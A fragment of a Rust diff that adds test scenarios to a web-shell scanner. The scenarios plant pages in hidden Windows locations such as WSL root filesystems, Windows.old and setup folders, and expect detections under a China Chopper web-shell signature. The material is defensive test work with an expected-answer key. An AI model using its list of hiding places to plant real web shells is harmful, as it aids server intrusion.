+        ordinary: Some(|server| {
+            server.write(r"C:\PHP\php.ini", "[PHP]\r\nauto_prepend_file =\r\n;auto_prepend_file=x\r\n")
+        }),
+    },
+    Situation {
+        id: "servers/linux_inside",
+        what: "A web server runs in a Linux inside Windows, whose files lie in a user's folder",
+        plant: |server| {
+            server.shell(r"C:\Users\a\AppData\Local\Packages\Distribution_1\LocalState\rootfs\var\www\html\x.aspx");
+        },
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\Users\a\AppData\Local\Packages\Distribution_1\LocalState\rootfs\var\www\html\x.aspx",
+            reason: "signature/china_chopper_jscript_eval_page",
+            level: "high",
+        },
+        ordinary: None,
+    },
+    Situation {
+        id: "servers/linux_disk",
+        what: "A web server runs in a Linux inside Windows, whose files lie in a disk image",
+        plant: |server| {
+            server.write(r"C:\Users\a\AppData\Local\Packages\Distribution_1\LocalState\ext4.vhdx", "vhdxfile")
+        },
+        more: &[],
+        answer: Answer::Gap { kind: "image_not_opened", words: "ext4.vhdx" },
+        ordinary: None,
+    },
+    Situation {
+        id: "earlier/windows_old",
+        what: "A page lies in what setup left of the system before",
+        plant: |server| server.shell(r"C:\Windows.old\inetpub\wwwroot\x.aspx"),
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\Windows.old\inetpub\wwwroot\x.aspx",
+            reason: "signature/china_chopper_jscript_eval_page",
+            level: "high",
+        },
+        ordinary: Some(|server| {
+            let logon = server.text(&format!(r"{}\errorFE.aspx", super::AUTH));
+            let place =
+                r"C:\Windows.old\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\errorFE.aspx";
+            server.write(place, logon);
+            server.write(r"C:\Windows.old\inetpub\wwwroot\iisstart.htm", "<html></html>");
+        }),
+    },
+    Situation {
+        id: "earlier/setup_folder",
+        what: "A page lies in a folder that setup of a newer system makes",
+        plant: |server| server.shell(r"C:\$WINDOWS.~BT\Sources\x.ashx.aspx"),
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\$WINDOWS.~BT\Sources\x.ashx.aspx",
+            reason: "signature/china_chopper_jscript_eval_page",
+            level: "high",
+        },
+        ordinary: None,
+    },
+];
